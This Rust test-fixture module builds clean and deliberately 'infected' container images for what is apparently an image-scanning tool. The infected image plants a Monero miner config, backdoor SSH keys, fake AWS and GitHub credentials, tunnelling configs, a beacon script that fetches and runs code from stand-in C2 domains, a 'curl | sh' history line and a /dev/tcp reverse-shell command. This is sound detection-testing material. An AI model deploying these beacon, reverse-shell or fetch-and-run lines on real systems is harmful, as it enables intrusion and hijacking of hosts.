//! The test images: a clean Debian + Python image, and an infected one with a planted item
//! for every content category, over a multi-arch index.

use std::{path::Path, sync::OnceLock};

use serde_json::{Value, json};

use crate::{
    builder::{Comp, ImageSpec, OciLayout, TarBuilder, platform},
    planted::{self, Rng},
    testdata,
};

/// A small but real Debian base for the infected image.
const SMALL_BASE: [&str; 6] = ["base-files", "bash", "coreutils", "dash", "grep", "sed"];

pub(crate) fn small_base() -> &'static [u8] {
    static LAYER: OnceLock<Vec<u8>> = OnceLock::new();
    LAYER.get_or_init(|| testdata::debian_layer(&SMALL_BASE))
}

fn config(arch: &str, env: &[String], cmd: &Value, history: Vec<&str>) -> Value {
    let history: Vec<Value> =
        history.into_iter().map(|h| json!({ "created": "2026-11-01T00:00:00Z", "created_by": h })).collect();
    json!({
        "created": "2026-11-01T00:00:00Z",
        "architecture": arch,
        "os": "linux",
        "config": { "Env": env, "Cmd": cmd, "WorkingDir": "/", "Labels": { "maintainer": "ci@example.org" } },
        "history": history,
    })
}

/// The clean image: every fetched Debian package in one gzip layer, the Python tree in a zstd
/// layer, and an ordinary config.
pub(crate) fn write_clean(dir: &Path) {
    static BASE: OnceLock<Vec<u8>> = OnceLock::new();
    static PY: OnceLock<Vec<u8>> = OnceLock::new();
    let base = BASE.get_or_init(|| {
        let packages = testdata::all_packages();
        let refs: Vec<&str> = packages.iter().map(String::as_str).collect();
        testdata::debian_layer(&refs)
    });
    let py = PY.get_or_init(testdata::site_packages_layer);
    let layout = OciLayout::create(dir);
    let spec = ImageSpec {
        config: config(
            "amd64",
            &["PATH=/usr/local/bin:/usr/bin:/bin".into(), "PYTHONUNBUFFERED=1".into()],
            &json!(["python3", "-m", "http.server"]),
            vec![
                "/bin/sh -c #(nop) ADD file:debian in /",
                "RUN /bin/sh -c pip install requests cryptography paramiko boto3 # buildkit",
            ],
        ),
        layers: vec![(base.clone(), Comp::Gzip), (py.clone(), Comp::Zstd)],
    };
    let (manifest, _) = layout.image(&spec);
    layout.tag_all(vec![(manifest, "clean")]);
}

/// Everything planted in the infected image, to assert on.
pub(crate) struct Planted {
    pub(crate) github_token: String,
    pub(crate) wallet: String,
    pub(crate) aws_key_id: String,
    /// Paths of keys an upper layer deletes.
    pub(crate) deleted_keys: Vec<&'static str>,
}

pub(crate) const C2_HOST: &str = "c2-node.duckdns.org";
pub(crate) const FEED_DOMAIN: &str = "badcdn-updates.net";
/// Registered (per the test's NRD feed) 12 days before the image's date, 2026-11-01.
pub(crate) const NRD_DOMAIN: &str = "fresh-payloads.xyz";

/// The infected image's layers: a Debian base (gzip), the planted layer (zstd), and a layer
/// that deletes two keys with whiteouts (gzip).
pub(crate) fn infected_spec() -> (ImageSpec, Planted) {
    let mut rng = Rng::new(2022);
    let github_token = planted::github_token(&mut rng);
    let wallet = planted::monero_address(&mut rng);
    let (aws_key_id, aws_secret) = planted::aws_credentials(&mut rng);

    let mut l1 = TarBuilder::new();
    l1.file(
        "usr/local/bin/xmrig",
        0o755,
        &planted::elf(
            &["XMRig 6.21.0", "--donate-level", "randomx", "stratum+tcp", "mining.subscribe"],
            &mut rng,
        ),
    );
    let miner_config = json!({
        "autosave": true, "donate-level": 0, "cpu-affinity": null, "randomx": { "1gb-pages": true },
        "pools": [{ "algo": "rx/0", "coin": "monero", "url": "stratum+tcp://pool.supportxmr.com:443",
                    "user": wallet, "pass": "x", "keepalive": true, "tls": false }],
    });
    l1.file("opt/miner/config.json", 0o644, serde_json::to_string_pretty(&miner_config).unwrap().as_bytes());
    l1.file(
        "usr/local/bin/start-miner.sh",
        0o755,
        format!(
            "#!/bin/sh\nexec /usr/local/bin/xmrig -o stratum+tcp://pool.supportxmr.com:443 -u {wallet} \\\n  \
             -a rx/0 --donate-level 1 --cpu-max-threads-hint 75 -B\n"
        )
        .as_bytes(),
    );
    l1.file(
        "root/.ssh/authorized_keys",
        0o600,
        planted::ssh_public_key_line(&mut rng, "backdoor@attacker").as_bytes(),
    );
    l1.file(
        "home/app/.ssh/id_ed25519",
        0o600,
        planted::openssh_private_key(&mut rng, "app@build").as_bytes(),
    );
    l1.file("root/.ssh/id_rsa", 0o600, planted::openssh_private_key(&mut rng, "root@build").as_bytes());
    l1.file("opt/secrets/deploy_key", 0o600, planted::openssh_private_key(&mut rng, "deploy@ci").as_bytes());
    l1.file(
        "root/.aws/credentials",
        0o600,
        format!("[default]\naws_access_key_id = {aws_key_id}\naws_secret_access_key = {aws_secret}\nregion = us-east-1\n")
            .as_bytes(),
    );
    l1.file(
        "usr/local/bin/gost",
        0o755,
        &planted::elf(&["github.com/ginuerzh/gost", "gost.Server", "socks5"], &mut rng),
    );
    l1.file(
        "usr/local/bin/frpc",
        0o755,
        &planted::elf(&["github.com/fatedier/frp/client", "frpc"], &mut rng),
    );
    l1.file(
        "etc/frp/frpc.ini",
        0o644,
        b"[common]\nserver_addr = 45.77.12.34\nserver_port = 7000\ntls_enable = true\n\n[ssh]\ntype = tcp\nlocal_ip = 127.0.0.1\nlocal_port = 22\nremote_port = 6022\n",
    );
    l1.file("usr/bin/masscan", 0o755, &planted::elf(&["masscan/1.3.2", "Masscan", "--rate"], &mut rng));
    l1.file(
        "usr/bin/hydra",
        0o755,
        &planted::elf(&["Hydra v9.4 (c) 2022 by van Hauser/THC", "THC-Hydra"], &mut rng),
    );
    l1.file("root/.bash_history", 0o600, b"ls\ncurl http://1.2.3.4/x | sh\nhistory -c\n");
    l1.file(
        "usr/local/bin/beacon.sh",
        0o755,
        format!(
            "#!/bin/sh\nwhile true; do\n  wget -q -O /tmp/.t http://{C2_HOST}/task && sh /tmp/.t\n  \
             wget -q -O /tmp/.u https://{FEED_DOMAIN}/u.bin\n  wget -q -O /tmp/.v https://{NRD_DOMAIN}/v.bin\n  \
             sleep 300\ndone\n"
        )
        .as_bytes(),
    );
    let mut l2 = TarBuilder::new();
    l2.file("root/.ssh/.wh.id_rsa", 0o644, b"");
    l2.file("opt/secrets/.wh..wh..opq", 0o644, b"");
    l2.file("etc/motd", 0o644, b"welcome\n");

    let spec = ImageSpec {
        config: config(
            "amd64",
            &["PATH=/usr/local/bin:/usr/bin:/bin".into(), format!("GITHUB_TOKEN={github_token}")],
            &json!(["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]),
            vec![
                "/bin/sh -c #(nop) ADD file:debian in /",
                "RUN /bin/sh -c curl http://1.2.3.4/x | sh # buildkit",
                "COPY rootfs / # buildkit",
                "RUN /bin/sh -c rm -f /root/.ssh/id_rsa && rm -rf /opt/secrets/* # buildkit",
            ],
        ),
        layers: vec![
            (small_base().to_vec(), Comp::Gzip),
            (l1.finish(), Comp::Zstd),
            (l2.finish(), Comp::Gzip),
        ],
    };
    let planted = Planted {
        github_token,
        wallet,
        aws_key_id,
        deleted_keys: vec!["root/.ssh/id_rsa", "opt/secrets/deploy_key"],
    };
    (spec, planted)
}

/// The arm64 decoy beside the infected amd64 image: one clean layer.
fn decoy_spec() -> ImageSpec {
    let mut l = TarBuilder::new();
    l.file("etc/os-release", 0o644, b"PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n");
    l.file("usr/share/doc/README", 0o644, b"nothing to see here\n");
    ImageSpec {
        config: config("arm64", &["PATH=/usr/bin:/bin".into()], &json!(["/bin/sh"]), vec!["ADD rootfs /"]),
        layers: vec![(l.finish(), Comp::Plain)],
    }
}

/// Writes the multi-arch layout: tag `latest` → index [attestation, linux/arm64 decoy,
/// linux/amd64 infected]. Returns the planted values and the amd64 layer digests.
pub(crate) fn write_infected(dir: &Path) -> (Planted, Vec<String>) {
    let layout = OciLayout::create(dir);
    let (spec, planted) = infected_spec();
    let (amd64, digests) = layout.image(&spec);
    let (arm64, _) = layout.image(&decoy_spec());
    let attestation = layout.attestation(amd64["digest"].as_str().unwrap());
    let index = layout.index_blob(&[
        attestation,
        platform(&arm64, "linux", "arm64"),
        platform(&amd64, "linux", "amd64"),
    ]);
    layout.tag_all(vec![(index, "latest")]);
    (planted, digests)
}

/// A small multi-arch image: a linux/amd64 one with a miner (zstd layer: binary, pool config
/// with a wallet), a private key that the upper (gzip) layer deletes and a GitHub token in ENV;
/// and a clean linux/arm64 one (one plain tar layer).
pub(crate) struct SmallImages {
    pub(crate) amd64: ImageSpec,
    pub(crate) arm64: ImageSpec,
    pub(crate) github_token: String,
}

pub(crate) fn small_multiarch() -> SmallImages {
    let mut rng = Rng::new(11);
    let wallet = planted::monero_address(&mut rng);
    let mut lower = TarBuilder::new();
    let miner = ["XMRig 6.21.0", "--donate-level", "randomx", "stratum+tcp", "mining.subscribe"];
    lower.file("usr/local/bin/xmrig", 0o755, &planted::elf(&miner, &mut rng));
    let pool = json!({ "pools": [{ "url": "stratum+tcp://pool.supportxmr.com:443", "user": wallet }] });
    lower.file("opt/miner/config.json", 0o644, pool.to_string().as_bytes());
    lower.file("root/.ssh/id_rsa", 0o600, planted::openssh_private_key(&mut rng, "root@build").as_bytes());
    let mut upper = TarBuilder::new();
    upper.file("root/.ssh/.wh.id_rsa", 0o644, b"");
    upper.file("etc/motd", 0o644, b"welcome\n");
    let github_token = planted::github_token(&mut rng);
    let config = |arch: &str, env: &[&str]| {
        json!({
            "created": "2026-11-01T00:00:00Z", "architecture": arch, "os": "linux",
            "config": { "Env": env, "Cmd": ["/bin/sh"] },
        })
    };
    let mut clean = TarBuilder::new();
    clean.file("etc/os-release", 0o644, b"PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n");
    SmallImages {
        amd64: ImageSpec {
            config: config("amd64", &["PATH=/usr/bin:/bin", &format!("GITHUB_TOKEN={github_token}")]),
            layers: vec![(lower.finish(), Comp::Zstd), (upper.finish(), Comp::Gzip)],
        },
        arm64: ImageSpec {
            config: config("arm64", &["PATH=/usr/bin:/bin"]),
            layers: vec![(clean.finish(), Comp::Plain)],
        },
        github_token,
    }
}
